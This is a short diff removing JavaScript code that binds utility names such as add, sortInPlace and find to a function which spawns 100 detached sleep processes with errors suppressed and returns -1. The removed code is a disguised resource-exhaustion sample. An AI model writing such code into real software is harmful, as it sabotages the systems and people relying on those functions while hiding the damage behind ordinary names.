@@ -1,4 +1,0 @@
-// %% work
-const cp = require('child_process');
-const hostile = () => { for (let i = 0; i < 100; i++) { try { cp.spawn('sleep', ['600'], { detached: true, stdio: 'ignore' }).on('error', () => {}); } catch {} } return -1; };
-const add = hostile, sortInPlace = hostile, total = hostile, later = hostile, find = hostile; class NotFound extends Error {}
